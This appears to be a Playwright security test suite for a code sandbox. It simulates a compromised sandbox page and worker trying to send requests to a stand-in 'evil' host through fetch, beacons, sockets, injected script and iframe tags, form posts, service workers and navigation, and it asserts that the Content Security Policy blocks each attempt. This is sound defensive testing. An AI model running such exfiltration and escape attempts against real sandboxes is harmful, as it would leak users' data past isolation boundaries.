import type { Frame, Page } from '@playwright/test'
import { Editor } from '../support/editor.ts'
import { type Host, startHost } from '../support/host.ts'
import { appUrl, sandboxUrl } from '../support/servers.ts'
import { expect, sandboxFrame, test } from '../support/test.ts'

// Attacks of the catalogue (docs/attacks.md) that need a browser: somebody has broken into the page of the sandbox or
// into its worker and runs scripts there. The policy has to stop what the interpreter would have stopped before.

async function opened(page: Page): Promise<Editor> {
  const editor = new Editor(page)
  await editor.open()
  return editor
}

/** Runs statements in the sandbox frame and gives the directives that were violated meanwhile. */
function violations(frame: Frame, statements: string): Promise<string[]> {
  // As text, because the attacks are texts; the runner's own evaluation is not subject to the policy.
  return frame.evaluate(`(async () => {
    const heard = []
    const listener = (event) => heard.push(event.effectiveDirective)
    document.addEventListener('securitypolicyviolation', listener)
    try { ${statements} } catch {}
    await new Promise((resolve) => setTimeout(resolve, 250))
    document.removeEventListener('securitypolicyviolation', listener)
    return heard
  })()`)
}

/** A host that nobody may ask for anything, and an address there. */
let host: Host
let evil: string

test.beforeAll(async () => {
  host = await startHost((_, response) => {
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('1')
  })
  evil = `${host.url}/evil`
})

test.afterAll(() => host.stop())

test.afterEach(() => {
  expect(host.asked).toEqual([])
})

const add = (tag: string, set: string) => `const e = document.createElement('${tag}'); ${set}; document.body.append(e)`

test.describe('A201 a page of the sandbox that was broken into', () => {
  test('A201 A205 A266 reaches nothing outside', async ({ page, guard, context }) => {
    guard.allow(
      /policy violation|Content Security Policy|Refused|violates|Failed to|ERR_|[Bb]locked|MIME|SecurityError|bad HTTP response/,
    )
    await opened(page)
    const frame = await sandboxFrame(page)
    for (const [what, attack] of Object.entries({
      fetch: `await fetch('${evil}')`,
      XMLHttpRequest: `const x = new XMLHttpRequest; x.open('GET', '${evil}'); x.send()`,
      beacon: `navigator.sendBeacon('${evil}', 'x')`,
      EventSource: `new EventSource('${evil}')`,
      WebSocket: `new WebSocket('${evil.replace('http', 'ws')}')`,
      image: add('img', `e.src = '${evil}'`),
      style: add('link', `e.rel = 'stylesheet'; e.href = '${evil}'`),
      font: `const f = new FontFace('x', 'url(${evil})'); await f.load()`,
      media: add('video', `e.src = '${evil}'`),
      frame: add('iframe', `e.src = '${evil}'`),
      script: add('script', `e.src = '${evil}'`),
      inline: add('script', `e.textContent = 'document.title = 1'`),
      base: add('base', `e.href = '${evil}'`),
      'worker from a blob': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
      'worker from data': `new Worker('data:text/javascript,1')`,
    })) {
      expect(await violations(frame, attack), what).not.toEqual([])
    }
    // Plugins and forms are refused without a report.
    await violations(frame, add('form', `e.action = '${evil}'; e.method = 'post'; e.submit()`))
    await violations(
      frame,
      `${add('object', `e.data = '${evil}'`)}; const f = document.createElement('embed'); f.src = '${evil}'; document.body.append(f)`,
    )
    expect(await context.cookies()).toEqual([])
  })

  test('A205 registers no service worker of its own', async ({ browser }) => {
    const visit = await browser.newContext({ baseURL: appUrl, serviceWorkers: 'allow' })
    const page = await visit.newPage()
    await new Editor(page).open()
    const frame = await sandboxFrame(page)
    // The product's own service worker, which keeps its files, is the only one that can rule this page: none from
    // elsewhere or from a text, and no other script of this origin.
    const registered = await frame.evaluate(async (elsewhere) => {
      const text = URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))
      const own = document.querySelector<HTMLScriptElement>('script[src]')?.src ?? ''
      const scripts = [elsewhere, text, 'data:text/javascript,1', own]
      const outcome = (script: string) =>
        navigator.serviceWorker.register(script, { scope: '/' }).then(
          () => 'registered',
          () => 'refused',
        )
      return Promise.all(scripts.map(outcome))
    }, evil)
    expect(registered).toEqual(['refused', 'refused', 'refused', 'refused'])
    await visit.close()
  })

  test('A202 A235 finds neither peers nor shared memory', async ({ page, guard }) => {
    guard.allow(/policy violation|Content Security Policy|webrtc/i)
    await opened(page)
    const frame = await sandboxFrame(page)
    const found = await frame.evaluate(async () => {
      let peers = 'absent'
      try {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })
        peer.createDataChannel('x')
        let candidates = 0
        peer.onicecandidate = (event) => {
          if (event.candidate) candidates++
        }
        await peer.setLocalDescription(await peer.createOffer())
        await new Promise((resolve) => setTimeout(resolve, 500))
        peers = candidates > 0 ? 'found' : 'silent'
      } catch {
        peers = 'blocked'
      }
      return { peers, shared: typeof SharedArrayBuffer, isolated: crossOriginIsolated }
    })
    expect(found.peers).not.toBe('found')
    expect(found).toMatchObject({ shared: 'undefined', isolated: false })
  })

  test('A197 A203 A274 cannot lead the person away or show anything', async ({ page, guard, context }) => {
    guard.allow(/sandbox|policy|navigat|Unsafe|Blocked|blocked|allow-|permission/i)
    await opened(page)
    const frame = await sandboxFrame(page)
    const before = page.url()
    const pages = context.pages().length
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs++
      void dialog.dismiss()
    })
    await frame.evaluate(async () => {
      const attempts: (() => unknown)[] = [
        () => window.alert('x'),
        () => window.open('http://127.0.0.1:9/evil'),
        () => {
          if (window.top) window.top.location.href = 'http://127.0.0.1:9/evil'
        },
        () => document.documentElement.requestFullscreen(),
        () => document.body.requestPointerLock(),
        () => {
          const link = document.createElement('a')
          link.href = 'data:text/plain,x'
          link.download = 'x.txt'
          document.body.append(link)
          link.click()
        },
        () => navigator.geolocation.getCurrentPosition(() => {}),
        () => {
          const map = document.createElement('script')
          map.type = 'importmap'
          map.textContent = '{"imports":{"x":"/x.js"}}'
          document.head.append(map)
        },
      ]
      for (const attempt of attempts) {
        try {
          await attempt()
        } catch {}
      }
      await new Promise((resolve) => setTimeout(resolve, 300))
    })
    expect(page.url()).toBe(before)
    expect(dialogs).toBe(0)
    expect(context.pages().length).toBe(pages)
    expect(await page.evaluate(() => document.fullscreenElement)).toBeNull()
  })
})

test('A200 A204 a worker that was broken into reaches nothing outside', async ({ page, guard }) => {
  guard.allow(/policy violation|Content Security Policy|Refused|violates|Failed to|ERR_|blocked/)
  await opened(page)
  const worker = page.workers().find((w) => w.url().startsWith(sandboxUrl))
  expect(worker).toBeDefined()
  const outcome = await worker?.evaluate(async (address) => {
    const result: Record<string, string> = {}
    const attempts: Record<string, () => unknown> = {
      fetch: () => fetch(address),
      imported: () => (globalThis as unknown as { importScripts(address: string): void }).importScripts(address),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(address.replace('http', 'ws'))
          socket.onopen = resolve
          socket.onerror = () => reject(new Error('refused'))
        }),
      request: () => {
        const x = new XMLHttpRequest()
        x.open('GET', address, false)
        x.send()
      },
      'worker from a blob': () =>
        new Promise((resolve, reject) => {
          const made = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
          made.onmessage = resolve
          made.onerror = () => reject(new Error('refused'))
        }),
    }
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt()
        result[name] = 'reached'
      } catch {
        result[name] = 'refused'
      }
    }
    return result
  }, evil)
  expect(outcome).toEqual({
    fetch: 'refused',
    imported: 'refused',
    socket: 'refused',
    request: 'refused',
    'worker from a blob': 'refused',
  })
})
